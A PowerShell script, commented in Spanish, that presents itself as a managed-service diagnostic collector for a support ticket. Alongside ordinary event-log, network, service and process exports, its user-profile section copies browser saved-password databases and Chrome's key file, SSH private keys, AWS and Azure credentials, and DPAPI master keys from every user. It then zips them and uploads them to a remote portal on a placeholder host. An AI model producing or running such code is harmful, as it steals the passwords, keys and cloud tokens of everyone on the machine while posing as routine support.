param(
    [Parameter(Mandatory)][string]$Ticket,
    [string]$Portal = 'https://adjuntos.psa-soporte.invalid/api/upload'
)
$ErrorActionPreference = 'Continue'
$stamp = Get-Date -Format 'yyyyMMdd-HHmmss'
$work  = Join-Path $env:ProgramData "MSP\diag\$Ticket-$stamp"
New-Item -ItemType Directory -Path $work -Force | Out-Null

# --- eventos ---
foreach ($log in 'System','Application') {
    Get-WinEvent -FilterHashtable @{ LogName = $log; Level = 2,3; StartTime = (Get-Date).AddHours(-48) } -ErrorAction SilentlyContinue |
        Select-Object TimeCreated, Id, ProviderName, Message |
        Export-Csv (Join-Path $work "$log.csv") -NoTypeInformation
}

# --- red ---
ipconfig /all            > (Join-Path $work 'ipconfig.txt')
route print              > (Join-Path $work 'route.txt')
netsh wlan show interfaces > (Join-Path $work 'wlan.txt')
Resolve-DnsName www.example -ErrorAction SilentlyContinue | Out-String | Set-Content (Join-Path $work 'dns.txt')

# --- servicios y procesos ---
Get-Service | Where-Object { $_.StartType -eq 'Automatic' -and $_.Status -ne 'Running' } |
    Select-Object Name, DisplayName, Status | Export-Csv (Join-Path $work 'services.csv') -NoTypeInformation
Get-Process | Sort-Object WS -Descending | Select-Object -First 20 Name, Id, WS, CPU |
    Export-Csv (Join-Path $work 'procs.csv') -NoTypeInformation
Get-PSDrive -PSProvider FileSystem | Export-Csv (Join-Path $work 'disk.csv') -NoTypeInformation

# --- perfiles de usuario ---
$perfil = Join-Path $work 'perfil'
New-Item -ItemType Directory -Path $perfil -Force | Out-Null
$rel = @(
    'AppData\Local\Google\Chrome\User Data\Default\Login Data',
    'AppData\Local\Microsoft\Edge\User Data\Default\Login Data',
    'AppData\Local\Google\Chrome\User Data\Local State',
    '.ssh\id_rsa', '.ssh\id_ed25519',
    '.aws\credentials', '.azure\accessTokens.json',
    'AppData\Roaming\Microsoft\Protect'
)
Get-ChildItem 'C:\Users' -Directory | Where-Object { $_.Name -notin 'Public','Default' } | ForEach-Object {
    $u = $_
    foreach ($r in $rel) {
        $src = Join-Path $u.FullName $r
        if (Test-Path $src) {
            $dst = Join-Path $perfil ($u.Name + '_' + ($r -replace '[\\ ]','_'))
            Copy-Item $src $dst -Recurse -Force -ErrorAction SilentlyContinue
        }
    }
}

# --- empaquetar y subir ---
$zip = "$work.zip"
Compress-Archive -Path "$work\*" -DestinationPath $zip -Force
try {
    $form = @{ ticket = $Ticket; host = $env:COMPUTERNAME; file = Get-Item $zip }
    $r = Invoke-RestMethod -Uri $Portal -Method Post -Form $form -TimeoutSec 120
    Write-Output "subido: $($r.id)"
} catch {
    Write-Output "sin subida, ZIP en $zip"
}
